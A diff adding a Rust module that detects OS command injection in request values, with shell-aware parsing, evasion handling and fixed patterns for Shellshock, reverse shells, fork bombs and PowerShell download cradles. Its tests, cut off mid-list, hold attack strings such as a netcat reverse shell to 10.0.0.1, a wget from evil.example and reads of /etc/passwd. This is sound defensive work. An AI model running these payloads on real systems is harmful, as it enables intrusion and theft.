@@ -1,0 +1,1106 @@
+//! OS command injection, Unix and Windows.
+//!
+//! A small shell-aware scan rather than a keyword list. The value is walked once; at each
+//! place where a shell would start a new command — the start of the value, after `;`, `|`,
+//! `&`, a newline, inside `` ` ``, `$(`, `<(`, `>(` or a `{a,b}` brace expansion, or after a
+//! wrapper such as `time`, `nohup`, `sudo` — the next word is read the way a shell reads it:
+//! quotes, backslashes, `$@`/`$1`/`${x}` insertions, empty substitutions and Windows `^`
+//! carets are dropped (and remembered as evasion), `/bin/` prefixes are cut, `?`/`*`/`[…]`
+//! globs are matched against the command list ([`lexicon`]). What follows the command
+//! (a flag, an absolute path, a URL, a substitution, the end of the value) is the evidence
+//! that it is a command line and not prose: "cat /etc/passwd" and ";id" are attacks,
+//! "cat tree for large cats" and "tail lights" are not.
+//!
+//! Beside the grammar, a few unmistakable shapes: Shellshock's `() {`, `${IFS}`,
+//! `/dev/tcp/` reverse shells, fork bombs, `alias x=…`, Windows `for … in (…) do` and
+//! `if exist`/`if a==b` batch syntax, `%COMSPEC%` and PowerShell download cradles.
+
+mod lexicon;
+
+use crate::detector::{Detector, Input, Sink};
+use crate::rule::{Class, Rule, Severity};
+use aho_corasick::AhoCorasick;
+use lexicon::{Command, Kind};
+use regex::bytes::Regex;
+use std::ops::Range;
+use std::sync::LazyLock;
+
+/// A command after a command separator (`;`, `|`, `&`, `&&`, `||`, newline), with
+/// arguments that make it a command line.
+static SEPARATOR: Rule = Rule {
+    id: "command.separator",
+    class: Class::Command,
+    paranoia: 1,
+    severity: Severity::Critical,
+    description: "OS command after a shell command separator",
+};
+
+/// A command inside a substitution: backticks, `$(…)`, `<(…)`, `>(…)`, or a `{cmd,arg}`
+/// brace expansion.
+static SUBSTITUTION: Rule = Rule {
+    id: "command.substitution",
+    class: Class::Command,
+    paranoia: 1,
+    severity: Severity::Critical,
+    description: "OS command inside a shell command substitution or brace expansion",
+};
+
+/// A value that is a command line: an attacker's command with arguments, or any command
+/// reading a system path or fetching a URL.
+static START: Rule = Rule {
+    id: "command.start",
+    class: Class::Command,
+    paranoia: 1,
+    severity: Severity::Critical,
+    description: "value is an OS command line",
+};
+
+/// A command name hidden by shell quoting tricks: `w'h'o'am'i`, `wh\oami`, `c$@at`,
+/// `/???/c?t`, `c^m^d`.
+static EVASION: Rule = Rule {
+    id: "command.evasion",
+    class: Class::Command,
+    paranoia: 1,
+    severity: Severity::Critical,
+    description: "OS command name obfuscated with quotes, escapes, expansions or globs",
+};
+
+/// Windows batch and PowerShell syntax: `for /f … in (…) do`, `if exist`, `%COMSPEC%`,
+/// download cradles.
+static WINDOWS: Rule = Rule {
+    id: "command.windows",
+    class: Class::Command,
+    paranoia: 1,
+    severity: Severity::Critical,
+    description: "Windows cmd.exe batch or PowerShell command syntax",
+};
+
+/// Shellshock: a function definition `() {` where bash imports environment variables.
+static SHELLSHOCK: Rule = Rule {
+    id: "command.shellshock",
+    class: Class::Command,
+    paranoia: 1,
+    severity: Severity::Critical,
+    description: "Shellshock function definition (CVE-2014-6271)",
+};
+
+/// Shell-only constructs no other text contains: `${IFS}`, `/dev/tcp/` sockets, fork
+/// bombs, `alias x=cmd`.
+static SHELL_SYNTAX: Rule = Rule {
+    id: "command.shell-syntax",
+    class: Class::Command,
+    paranoia: 1,
+    severity: Severity::Critical,
+    description: "shell-only syntax: ${IFS}, /dev/tcp reverse shell, fork bomb, alias",
+};
+
+/// `$(…)` or `<(…)` around something that is not a known command: shell syntax, but
+/// jQuery's `$(` looks the same.
+static SUBSTITUTION_WEAK: Rule = Rule {
+    id: "command.substitution-weak",
+    class: Class::Command,
+    paranoia: 1,
+    severity: Severity::Warning,
+    description: "shell command substitution syntax",
+};
+
+/// A common command after a separator, followed by a plain word ("; cat lovers").
+static SEPARATOR_WEAK: Rule = Rule {
+    id: "command.separator-weak",
+    class: Class::Command,
+    paranoia: 2,
+    severity: Severity::Warning,
+    description: "command name after a shell separator, without command-line arguments",
+};
+
+/// A value that starts with a command and a flag ("tail -f"), or a command under a `bin`
+/// directory that is not in the list.
+static START_WEAK: Rule = Rule {
+    id: "command.start-weak",
+    class: Class::Command,
+    paranoia: 2,
+    severity: Severity::Warning,
+    description: "value starts with a command name and flags",
+};
+
+/// The command detector.
+pub(crate) static DETECTOR: Detector = Detector {
+    class: Class::Command,
+    rules: &[
+        &SEPARATOR,
+        &SUBSTITUTION,
+        &START,
+        &EVASION,
+        &WINDOWS,
+        &SHELLSHOCK,
+        &SHELL_SYNTAX,
+        &SUBSTITUTION_WEAK,
+        &SEPARATOR_WEAK,
+        &START_WEAK,
+    ],
+    scan,
+};
+
+/// Where a command word was found.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Context {
+    /// The start of the value.
+    Start,
+    /// After `;`, `|`, `&`; `adjacent` when no space separates it from the word.
+    Separator { adjacent: bool },
+    /// After a newline or an opening parenthesis: weaker, prose has both.
+    Soft,
+    /// Inside backticks.
+    Backtick,
+    /// Inside `$(`, `<(`, `>(`.
+    Dollar,
+    /// After `{` or `{,`: a brace expansion if a comma follows the word (or, after `{,`,
+    /// the closing brace).
+    Brace { lead_comma: bool },
+    /// The argument of a wrapper command (`time`, `nohup`, `sudo`).
+    Wrapped,
+}
+
+/// What follows a command word.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Evidence {
+    End,
+    Separator,
+    Redirect,
+    Flag,
+    SystemPath,
+    OtherPath,
+    Url,
+    Substitution,
+    Comma,
+    Word,
+}
+
+impl Evidence {
+    fn strong(self) -> bool {
+        matches!(
+            self,
+            Evidence::Redirect
+                | Evidence::Flag
+                | Evidence::SystemPath
+                | Evidence::Url
+                | Evidence::Substitution
+        )
+    }
+}
+
+/// A word read the way a shell reads it.
+struct Word {
+    /// The command name: lowercase, quotes and insertions removed, directory cut.
+    name: [u8; 48],
+    len: usize,
+    /// Where the word starts and ends in the input.
+    span: Range<usize>,
+    /// Quotes, escapes or expansions were removed from inside the name.
+    evasive: bool,
+    /// The name holds glob characters.
+    glob: bool,
+    /// The word had a directory (`/bin/cat`).
+    has_dir: bool,
+    /// The directory was a `bin` directory.
+    bin_dir: bool,
+    /// `$SHELL`/`${SHELL}`.
+    shell_var: bool,
+}
+
+impl Word {
+    fn name(&self) -> &[u8] {
+        &self.name[..self.len]
+    }
+}
+
+const MAX_WORD: usize = 48;
+
+fn is_word_byte(b: u8) -> bool {
+    b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b'/' | b'+')
+}
+
+/// Reads a shell word from `s` at `i`; `None` when there is none or it is too long to be a
+/// command name.
+fn read_word(s: &[u8], mut i: usize) -> Option<Word> {
+    let start = i;
+    let mut buf = [0u8; MAX_WORD];
+    let mut len = 0usize;
+    let mut quotes = 0u32;
+    let mut dquotes = 0u32;
+    let mut pending_quote = false;
+    let mut pending_other = false;
+    let mut quote_inside = false;
+    let mut evasive = false;
+    let mut glob = false;
+    let mut shell_var = false;
+    let limit = s.len().min(start + 96);
+    while i < limit {
+        let b = s[i];
+        match b {
+            b'\'' | b'"' => {
+                if b == b'\'' {
+                    quotes += 1;
+                } else {
+                    dquotes += 1;
+                }
+                if len > 0 {
+                    pending_quote = true;
+                }
+                i += 1;
+            }
+            b'\\' => {
+                match s.get(i + 1) {
+                    Some(&n)
+                        if n.is_ascii_alphanumeric() || n == b'/' || n == b'*' || n == b'?' =>
+                    {
+                        if len > 0 {
+                            pending_other = true;
+                        } else {
+                            // `\ls`: defeats aliases; not hiding anything by itself.
+                        }
+                        i += 1;
+                    }
+                    Some(b'\n') => i += 2,
+                    _ => break,
+                }
+            }
+            b'^' if len > 0 => {
+                pending_other = true;
+                i += 1;
+            }
+            b'`' if s.get(i + 1) == Some(&b'`') && len > 0 => {
+                pending_other = true;
+                i += 2;
+            }
+            b'<' | b'>' if s.get(i + 1) == Some(&b'(') && s.get(i + 2) == Some(&b')') => {
+                pending_other = true;
+                i += 3;
+            }
+            b'$' => match s.get(i + 1) {
+                Some(b'@' | b'*' | b'!' | b'-' | b'?' | b'#' | b'$' | b'0'..=b'9') => {
+                    pending_other = true;
+                    i += 2;
+                }
+                Some(b'(') if s.get(i + 2) == Some(&b')') => {
+                    pending_other = true;
+                    i += 3;
+                }
+                Some(b'\'' | b'"') => {
+                    // `$'…'` and `$"…"`: ANSI-C and locale quoting.
+                    if len > 0 {
+                        pending_other = true;
+                    }
+                    i += 1;
+                }
+                Some(b'{') => {
+                    let close = s[i..s.len().min(i + 24)].iter().position(|&c| c == b'}')?;
+                    let inner = &s[i + 2..i + close];
+                    if inner == b"ifs" {
+                        break;
+                    }
+                    if len == 0 && inner == b"shell" {
+                        shell_var = true;
+                        buf[..2].copy_from_slice(b"sh");
+                        len = 2;
+                        i += close + 1;
+                        break;
+                    }
+                    pending_other = true;
+                    i += close + 1;
+                }
+                Some(c) if c.is_ascii_alphabetic() || *c == b'_' => {
+                    let mut j = i + 1;
+                    while j < s.len() && (s[j].is_ascii_alphanumeric() || s[j] == b'_') {
+                        j += 1;
+                    }
+                    let var = &s[i + 1..j];
+                    if var == b"ifs" {
+                        break;
+                    }
+                    if len == 0 {
+                        if var == b"shell" {
+                            shell_var = true;
+                            buf[..2].copy_from_slice(b"sh");
+                            len = 2;
+                            i = j;
+                        }
+                        break;
+                    }
+                    pending_other = true;
+                    i = j;
+                }
+                _ => break,
+            },
+            b'[' => {
+                let close = s[i..s.len().min(i + 16)].iter().position(|&c| c == b']')?;
+                if close < 2 || len >= MAX_WORD {
+                    break;
+                }
+                buf[len] = b'?';
+                len += 1;
+                glob = true;
+                i += close + 1;
+            }
+            b'?' | b'*' => {
+                if len >= MAX_WORD {
+                    return None;
+                }
+                buf[len] = b;
+                len += 1;
+                glob = true;
+                i += 1;
+            }
+            _ if is_word_byte(b) => {
+                if len >= MAX_WORD {
+                    return None;
+                }
+                if pending_quote {
+                    quote_inside = true;
+                    pending_quote = false;
+                }
+                if pending_other {
+                    evasive = true;
+                    pending_other = false;
+                }
+                buf[len] = b;
+                len += 1;
+                i += 1;
+            }
+            _ => break,
+        }
+    }
+    if len == 0 {
+        return None;
+    }
+    // Balanced quotes inside the name (`w'h'o'am'i`), not an apostrophe (`"I'd`).
+    if quote_inside && quotes.is_multiple_of(2) && dquotes.is_multiple_of(2) {
+        evasive = true;
+    }
+    // A trailing `+` or `.` is punctuation, not part of the name.
+    while len > 0 && matches!(buf[len - 1], b'+' | b'.') {
+        len -= 1;
+    }
+    let mut word = Word {
+        name: [0; MAX_WORD],
+        len: 0,
+        span: start..i,
+        evasive,
+        glob,
+        has_dir: false,
+        bin_dir: false,
+        shell_var,
+    };
+    let full = &buf[..len];
+    match full.iter().rposition(|&c| c == b'/') {
+        Some(slash) => {
+            let dir = &full[..=slash];
+            word.has_dir = true;
+            word.bin_dir = dir.ends_with(b"bin/");
+            let base = &full[slash + 1..];
+            word.name[..base.len()].copy_from_slice(base);
+            word.len = base.len();
+        }
+        None => {
+            word.name[..len].copy_from_slice(full);
+            word.len = len;
+        }
+    }
+    if word.len == 0 {
+        return None;
+    }
+    Some(word)
+}
+
+/// The command a word names, trying the forms attackers use: `cmd.exe`, `python3.10`,
+/// globs.
+fn command_of(word: &Word) -> Option<Command> {
+    let name = word.name();
+    if name.len() < 2 && !word.glob {
+        return None;
+    }
+    if word.glob {
+        if name.iter().all(|&c| c == b'?' || c == b'*') && !word.has_dir {
+            return None;
+        }
+        return lexicon::lookup_glob(name);
+    }
+    if let Some(c) = lexicon::lookup(name) {
+        return Some(c);
+    }
+    let name = name.strip_suffix(b".exe").unwrap_or(name);
+    if let Some(c) = lexicon::lookup(name) {
+        return Some(c);
+    }
+    // Versioned interpreters: python3.10, php7.4, gcc10.1.
+    let trimmed_len = name.len()
+        - name
+            .iter()
+            .rev()
+            .take_while(|c| c.is_ascii_digit() || **c == b'.')
+            .count();
+    if trimmed_len >= 2 && trimmed_len < name.len() {
+        return lexicon::lookup(&name[..trimmed_len]);
+    }
+    None
+}
+
+/// Skips blanks: spaces, tabs, `${IFS}`, `$IFS`, and `+` (a space in raw query strings).
+fn skip_blanks(s: &[u8], mut i: usize) -> usize {
+    loop {
+        match s.get(i) {
+            Some(b' ' | b'\t' | b'+' | b'\x0b' | b'\x0c') => i += 1,
+            Some(b'$') if s[i..].starts_with(b"${ifs}") => i += 6,
+            Some(b'$') if s[i..].starts_with(b"$ifs") => i += 4,
+            _ => return i,
+        }
+    }
+}
+
+fn is_ipv4_start(s: &[u8]) -> bool {
+    let mut dots = 0;
+    let mut digits = 0;
+    for &c in s.iter().take(16) {
+        match c {
+            b'0'..=b'9' => digits += 1,
+            b'.' if digits > 0 => {
+                dots += 1;
+                digits = 0;
+            }
+            _ => break,
+        }
+    }
+    dots == 3 && digits > 0
+}
+
+fn looks_like_host(s: &[u8]) -> bool {
+    let end = s
+        .iter()
+        .position(|c| !(c.is_ascii_alphanumeric() || matches!(c, b'.' | b'-')))
+        .unwrap_or(s.len());
+    let host = &s[..end];
+    match host.iter().rposition(|&c| c == b'.') {
+        Some(dot) => {
+            dot > 0 && host.len() - dot > 2 && host[dot + 1..].iter().all(u8::is_ascii_alphabetic)
+        }
+        None => false,
+    }
+}
+
+const SYSTEM_DIRS: &[&[u8]] = &[
+    b"etc", b"bin", b"sbin", b"usr", b"var", b"tmp", b"dev", b"proc", b"sys", b"root", b"home",
+    b"boot", b"opt", b"lib", b"windows", b"winnt", b"???", b"e??", b"et?", b"e?c",
+];
+
+/// What follows a command word that ends at `i`.
+fn evidence(s: &[u8], i: usize, cmd: Command) -> Evidence {
+    evidence_at(s, i, cmd, 0)
+}
+
+fn evidence_at(s: &[u8], i: usize, cmd: Command, depth: u8) -> Evidence {
+    let j = skip_blanks(s, i);
+    let Some(&c) = s.get(j) else {
+        return Evidence::End;
+    };
+    let rest = &s[j..];
+    match c {
+        b';' | b'|' | b'&' | b'\n' | b'\r' | b')' | b'}' | b'`' => Evidence::Separator,
+        b'<' | b'>' => Evidence::Redirect,
+        b',' if i == j => Evidence::Comma,
+        b'-' => match rest.get(1) {
+            Some(n)
+                if n.is_ascii_alphanumeric()
+                    || (*n == b'-' && rest.get(2).is_some_and(u8::is_ascii_alphanumeric)) =>
+            {
+                // Flags first, then perhaps a path or URL: `ls -la /var/www`.
+                let flag_end = rest
+                    .iter()
+                    .position(|&c| c == b' ' || c == b'+' || c == b'\t')
+                    .map_or(s.len(), |p| j + p);
+                if flag_end < s.len() && depth < 3 {
+                    let next = evidence_at(s, flag_end, cmd, depth + 1);
+                    if next.strong() {
+                        return next;
+                    }
+                }
+                Evidence::Flag
+            }
+            _ => Evidence::Word,
+        },
+        b'/' => {
+            let seg_end = rest[1..]
+                .iter()
+                .position(|&c| c == b'/' || c == b' ' || c == b'+')
+                .map_or(rest.len(), |p| p + 1);
+            let seg = &rest[1..seg_end];
+            let after = rest.get(seg_end);
+            if seg.len() == 1 && seg[0].is_ascii_alphabetic() && after != Some(&b'/') {
+                // A Windows switch: `cmd /c`, `dir /b`.
+                return Evidence::Flag;
+            }
+            if SYSTEM_DIRS.contains(&seg)
+                || (seg.iter().any(|c| matches!(c, b'?' | b'*' | b'[')) && after == Some(&b'/'))
+            {
+                Evidence::SystemPath
+            } else if seg.is_empty() || seg[0].is_ascii_alphanumeric() {
+                Evidence::OtherPath
+            } else {
+                Evidence::Word
+            }
+        }
+        b'~' | b'.' if rest.get(1) == Some(&b'/') => Evidence::OtherPath,
+        b'.' if rest.starts_with(b"../") => Evidence::SystemPath,
+        b'$' => Evidence::Substitution,
+        b'a'..=b'z' if rest.get(1) == Some(&b':') && rest.get(2) == Some(&b'\\') => {
+            Evidence::SystemPath
+        }
+        _ if rest.starts_with(b"http://")
+            || rest.starts_with(b"https://")
+            || rest.starts_with(b"ftp://")
+            || rest.starts_with(b"file:")
+            || is_ipv4_start(rest) =>
+        {
+            Evidence::Url
+        }
+        b'"' | b'\'' => {
+            // A quoted argument: look inside.
+            if depth >= 3 {
+                return Evidence::Word;
+            }
+            let inner = evidence_at(s, j + 1, cmd, depth + 1);
+            if inner.strong() {
+                inner
+            } else {
+                Evidence::Word
+            }
+        }
+        _ if cmd.net && looks_like_host(rest) => Evidence::Url,
+        _ => word_evidence(s, j, cmd, depth),
+    }
+}
+
+/// Names of system files that, as a bare argument, make a command line (`cd etc;fold passwd`).
+const SENSITIVE_ARGS: &[&[u8]] = &[
+    b"passwd",
+    b"shadow",
+    b"master.passwd",
+    b".htpasswd",
+    b"id_rsa",
+];
+
+/// A plain word follows the command: perhaps an `if=/etc/passwd` operand, a sensitive file
+/// name, or a few words before a flag or path (`ansible all -m ping`).
+fn word_evidence(s: &[u8], j: usize, cmd: Command, depth: u8) -> Evidence {
+    let end = s[j..]
+        .iter()
+        .position(|&c| matches!(c, b' ' | b'\t' | b'+' | b';' | b'|' | b'&' | b'\n' | b'`'))
+        .map_or(s.len(), |p| j + p);
+    let token = &s[j..end];
+    if let Some(eq) = token.iter().position(|&c| c == b'=')
+        && token.get(eq + 1) == Some(&b'/')
+        && depth < 3
+    {
+        let inner = evidence_at(s, j + eq + 1, cmd, depth + 1);
+        if inner.strong() {
+            return inner;
+        }
+    }
+    if SENSITIVE_ARGS.contains(&token) {
+        return Evidence::SystemPath;
+    }
+    if depth < 2 && end < s.len() && matches!(s[end], b' ' | b'\t' | b'+') {
+        let next = evidence_at(s, end, cmd, depth + 1);
+        if matches!(next, Evidence::Flag | Evidence::SystemPath | Evidence::Url) {
+            return next;
+        }
+    }
+    Evidence::Word
+}
+
+/// The verdict on one command word.
+fn judge(context: Context, word: &Word, cmd: Command, ev: Evidence) -> Option<&'static Rule> {
+    let attack = cmd.kind == Kind::Attack;
+    if word.evasive || (word.glob && word.has_dir) || word.shell_var {
+        return Some(&EVASION);
+    }
+    match context {
+        Context::Start => {
+            if word.bin_dir && !word.glob {
+                return Some(&START);
+            }
+            match ev {
+                _ if attack && !matches!(ev, Evidence::Word | Evidence::End | Evidence::Comma) => {
+                    Some(&START)
+                }
+                Evidence::SystemPath
+                | Evidence::Url
+                | Evidence::Substitution
+                | Evidence::Redirect => Some(&START),
+                Evidence::Flag | Evidence::Separator | Evidence::OtherPath => Some(&START_WEAK),
+                _ => None,
+            }
+        }
+        Context::Separator { adjacent } => {
+            if (attack && ev != Evidence::Comma) || ev.strong() || ev == Evidence::OtherPath {
+                return Some(&SEPARATOR);
+            }
+            match ev {
+                Evidence::End | Evidence::Separator if adjacent => Some(&SEPARATOR),
+                _ => Some(&SEPARATOR_WEAK),
+            }
+        }
+        Context::Soft => {
+            if (attack && ev != Evidence::Word) || ev.strong() {
+                Some(&SEPARATOR)
+            } else {
+                None
+            }
+        }
+        Context::Backtick => {
+            // Markdown inline code looks the same: `ls -l` is documentation.
+            if attack || (ev.strong() && ev != Evidence::Flag) {
+                Some(&SUBSTITUTION)
+            } else {
+                None
+            }
+        }
+        Context::Dollar => Some(&SUBSTITUTION),
+        Context::Brace { lead_comma } => (ev == Evidence::Comma
+            || (lead_comma && ev == Evidence::Separator))
+            .then_some(&SUBSTITUTION),
+        Context::Wrapped => {
+            if attack || ev.strong() || ev == Evidence::End {
+                Some(&SEPARATOR)
+            } else {
+                None
+            }
+        }
+    }
+}
+
+/// Reads the word at `i` in `context`, judges it, and follows wrappers (`time cmd`).
+fn command_at(s: &[u8], i: usize, context: Context, sink: &mut Sink<'_>) {
+    let Some(word) = read_word(s, i) else {
+        if context == Context::Dollar && s.get(i).is_some_and(u8::is_ascii_alphabetic) {
+            sink.report(&SUBSTITUTION_WEAK, i..i + 1);
+        }
+        if s.get(i) == Some(&b'$') && context != Context::Wrapped {
+            empty_variable_prefix(s, i, sink);
+        }
+        return;
+    };
+    let Some(cmd) = command_of(&word) else {
+        if context == Context::Dollar {
+            sink.report(&SUBSTITUTION_WEAK, word.span.clone());
+        } else if context == Context::Start && word.bin_dir {
+            sink.report(&START_WEAK, word.span.clone());
+        }
+        return;
+    };
+    let ev = evidence(s, word.span.end, cmd);
+    if let Some(rule) = judge(context, &word, cmd, ev) {
+        let end = s.len().min(word.span.end + 24);
+        sink.report(rule, word.span.start..end);
+    }
+    let next = skip_blanks(s, word.span.end);
+    if cmd.wrapper
+        && context != Context::Wrapped
+        && next > word.span.end
+        && s.get(next)
+            .is_some_and(|&c| c.is_ascii_alphanumeric() || matches!(c, b'\'' | b'"' | b'/'))
+    {
+        command_at(s, next, Context::Wrapped, sink);
+    }
+}
+
+/// `$a cat file`: an unset variable before the command expands to nothing.
+fn empty_variable_prefix(s: &[u8], i: usize, sink: &mut Sink<'_>) {
+    let mut j = i + 1;
+    while j < s.len() && j < i + 32 && (s[j].is_ascii_alphanumeric() || s[j] == b'_') {
+        j += 1;
+    }
+    let next = skip_blanks(s, j);
+    if j == i + 1 || next == j {
+        return;
+    }
+    if let Some(word) = read_word(s, next)
+        && let Some(cmd) = command_of(&word)
+        && (cmd.kind == Kind::Attack || evidence(s, word.span.end, cmd) != Evidence::Word)
+    {
+        sink.report(&EVASION, i..word.span.end);
+    }
+}
+
+/// `name=value` at the start of a value or after `&`/`?` (a form or query string inside a
+/// value): the value is a new start. `a=cat&&$a /etc/passwd`: a command stored in a
+/// variable that is then expanded.
+fn assignment(s: &[u8], name: Range<usize>, sink: &mut Sink<'_>) {
+    let at = name.end + 1;
+    command_at(s, skip_blanks(s, at), Context::Start, sink);
+    if let Some(word) = read_word(s, at)
+        && command_of(&word).is_some()
+        && matches!(
+            s.get(word.span.end),
+            None | Some(b';' | b'&' | b'|' | b'\n')
+        )
+    {
+        let var = &s[name.clone()];
+        // Bounded, so that a value of many assignments stays linear.
+        let rest = &s[word.span.end..s.len().min(word.span.end + 512)];
+        let used = memchr::memmem::find_iter(rest, b"$").any(|p| {
+            let after = &rest[p + 1..];
+            let after = after.strip_prefix(b"{").unwrap_or(after);
+            after.starts_with(var)
+                && !after
+                    .get(var.len())
+                    .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_')
+        });
+        if used {
+            sink.report(&SHELL_SYNTAX, name.start..word.span.end);
+        }
+    }
+}
+
+fn is_ident_byte(b: u8) -> bool {
+    b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.' | b'[' | b']')
+}
+
+/// Bytes that may open a command context.
+static OPENERS: [bool; 256] = {
+    let mut t = [false; 256];
+    let mut k = 0;
+    let bytes = b";|&\n\r`$<>{(";
+    while k < bytes.len() {
+        t[bytes[k] as usize] = true;
+        k += 1;
+    }
+    t
+};
+
+fn scan(input: &Input<'_>, sink: &mut Sink<'_>) {
+    let s = input.lower;
+    if s.is_empty() {
+        return;
+    }
+    // The start of the value (after blanks and an opening quote, which read_word drops).
+    let first = skip_blanks(s, 0);
+    if first < s.len() {
+        command_at(s, first, Context::Start, sink);
+    }
+    let mut i = 0;
+    // Where a `name=` may have started: the value's start, or after `&`/`?`.
+    let mut ident_start = Some(0usize);
+    while i < s.len() {
+        let b = s[i];
+        if !OPENERS[b as usize] {
+            match b {
+                b'=' => {
+                    if let Some(st) = ident_start
+                        && st < i
+                    {
+                        assignment(s, st..i, sink);
+                    }
+                    ident_start = None;
+                }
+                b'?' => ident_start = Some(i + 1),
+                _ if !is_ident_byte(b) => ident_start = None,
+                _ => {}
+            }
+            i += 1;
+            continue;
+        }
+        ident_start = if b == b'&' { Some(i + 1) } else { None };
+        let next = s.get(i + 1).copied();
+        match b {
+            b';' | b'|' | b'&' => {
+                let mut k = i + 1;
+                while k < s.len() && matches!(s[k], b'|' | b'&') && k < i + 2 {
+                    k += 1;
+                }
+                let after = skip_blanks(s, k);
+                let context = Context::Separator {
+                    adjacent: after == k,
+                };
+                command_at(s, after, context, sink);
+                ident_start = Some(after);
+                i = after.max(k);
+                continue;
+            }
+            b'\n' | b'\r' | b'(' => {
+                command_at(s, skip_blanks(s, i + 1), Context::Soft, sink);
+            }
+            b'`' => {
+                // A run of backticks is a Markdown fence or an empty substitution.
+                let run = s[i..].iter().take_while(|&&c| c == b'`').count();
+                if run == 1 {
+                    command_at(s, skip_blanks(s, i + 1), Context::Backtick, sink);
+                }
+                i += run;
+                continue;
+            }
+            b'$' if next == Some(b'(') => {
+                let mut k = i + 2;
+                if s.get(k) == Some(&b'(') {
+                    k += 1;
+                }
+                command_at(s, skip_blanks(s, k), Context::Dollar, sink);
+                i = k;
+                continue;
+            }
+            b'<' | b'>' if next == Some(b'(') => {
+                command_at(s, skip_blanks(s, i + 2), Context::Dollar, sink);
+                i += 2;
+                continue;
+            }
+            b'<' if s[i..].starts_with(b"<<<") => {
+                command_at(s, skip_blanks(s, i + 3), Context::Soft, sink);
+                i += 3;
+                continue;
+            }
+            b'{' => {
+                let lead_comma = next == Some(b',');
+                let k = if lead_comma { i + 2 } else { i + 1 };
+                command_at(s, k, Context::Brace { lead_comma }, sink);
+            }
+            _ => {}
+        }
+        i += 1;
+    }
+    shapes(s, sink);
+}
+
+/// Fixed shapes found with one automaton pass.
+#[allow(clippy::expect_used)] // a constant pattern: a failure is a bug caught by the tests
+static SHAPES: LazyLock<AhoCorasick> = LazyLock::new(|| {
+    AhoCorasick::new([
+        "${ifs",            // 0
+        "$ifs",             // 1
+        "/dev/tcp/",        // 2
+        "/dev/udp/",        // 3
+        "()",               // 4: shellshock, fork bombs
+        "%comspec%",        // 5
+        "downloadstring",   // 6
+        "downloadfile",     // 7
+        "frombase64string", // 8
+        "-encodedcommand",  // 9
+        "net.webclient",    // 10
+        "alias",            // 11
+        "for",              // 12
+        "if",               // 13
+    ])
+    .expect("constant patterns")
+});
+
+#[allow(clippy::expect_used)] // a constant pattern: a failure is a bug caught by the tests
+static FORK_BOMB: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?:^|[\s;&|])([a-z0-9_:.]{1,32})\s*\(\)\s*\{[^}]{0,200}\}\s*;")
+        .expect("constant regex")
+});
+
+#[allow(clippy::expect_used)] // a constant pattern: a failure is a bug caught by the tests
+static ALIAS: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?:^|[;&|`(=]\s*)alias\s+(?:-[a-z]+\s+|\+[a-z]+\+?\s+)*[^\s=;&|]+="#)
+        .expect("constant regex")
+});
+
+#[allow(clippy::expect_used)] // a constant pattern: a failure is a bug caught by the tests
+static FOR_LOOP: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?:^|[;&|(\n]\s*|\s)for\s+(?:[^%\s]+\s+){0,4}%%?[^\s%]{0,24}\s+in\s*\("#)
+        .expect("constant regex")
+});
+
+#[allow(clippy::expect_used)] // a constant pattern: a failure is a bug caught by the tests
+static IF_BATCH: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r#"(?:^|[;&|(\n])\s*if(?:\s+|\s*/i\s+)(?:not\s+)?(?:(?:exist|defined|errorlevel|cmdextversion)\s+\S|[^\s=]+\s*(?:==|\s(?:equ|neq|lss|leq|gtr|geq)\s))"#,
+    )
+    .expect("constant regex")
+});
+
+fn shapes(s: &[u8], sink: &mut Sink<'_>) {
+    // Most values hold none of the trigger bytes.
+    if !s.iter().any(|&b| {
+        matches!(
+            b,
+            b'$' | b'/' | b'(' | b'%' | b'-' | b'.' | b'a' | b'f' | b'i'
+        )
+    }) {
+        return;
+    }
+    let mut saw = 0u32;
+    for m in SHAPES.find_overlapping_iter(s) {
+        saw |= 1 << m.pattern().as_u32();
+        let span = m.start()..m.end();
+        match m.pattern().as_u32() {
+            0..=3 => sink.report(&SHELL_SYNTAX, span),
+            4 => {
+                // `() {` opening the value, or `() { :;` anywhere.
+                let after = skip_blanks(s, m.end());
+                if s.get(after) == Some(&b'{') {
+                    let before_blank = s[..m.start()].iter().all(|c| c.is_ascii_whitespace());
+                    let body = skip_blanks(s, after + 1);
+                    if before_blank || s.get(body) == Some(&b':') {
+                        sink.report(&SHELLSHOCK, span);
+                    }
+                }
+            }
+            5..=10 => sink.report(&WINDOWS, span),
+            _ => {}
+        }
+    }
+    if saw & (1 << 4) != 0 {
+        for caps in FORK_BOMB.captures_iter(s) {
+            if let (Some(all), Some(name)) = (caps.get(0), caps.get(1)) {
+                let body = &s[name.end()..all.end()];
+                if memchr::memmem::find(body, name.as_bytes()).is_some()
+                    && body.iter().any(|&c| c == b'|' || c == b'&')
+                {
+                    sink.report(&SHELL_SYNTAX, all.range());
+                }
+            }
+        }
+    }
+    if saw & (1 << 11) != 0
+        && let Some(m) = ALIAS.find(s)
+    {
+        sink.report(&SHELL_SYNTAX, m.range());
+    }
+    if saw & (1 << 12) != 0
+        && let Some(m) = FOR_LOOP.find(s)
+    {
+        sink.report(&WINDOWS, m.range());
+    }
+    if saw & (1 << 13) != 0
+        && let Some(m) = IF_BATCH.find(s)
+    {
+        sink.report(&WINDOWS, m.range());
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::detector::matches;
+    use crate::location::Part;
+
+    fn hits(text: &str) -> Vec<&'static str> {
+        matches(&DETECTOR, Part::Query, "q", text, 1)
+    }
+
+    fn hits2(text: &str) -> Vec<&'static str> {
+        matches(&DETECTOR, Part::Query, "q", text, 2)
+    }
+
+    #[test]
+    fn separators() {
+        for attack in [
+            ";id",
+            "127.0.0.1; cat /etc/passwd",
+            "x|whoami",
+            "a && wget http://evil.example/x.sh",
+            "www.google.com;cat+/etc/passwd",
+            "foo\nuname -a",
+            "x; nc -e /bin/sh 10.0.0.1 4444",
+            ";ps",
+            "ok | sh",
+        ] {
+            assert!(hits(attack).contains(&"command.separator"), "{attack}");
+        }
+    }
+
+    #[test]
+    fn substitutions() {
+        for attack in [
+            "$(whoami)",
+            "`uname -a`",
+            "x`cat /etc/passwd`",
+            "<(curl http://x.example/a)",
+            "{cat,/etc/passwd}",
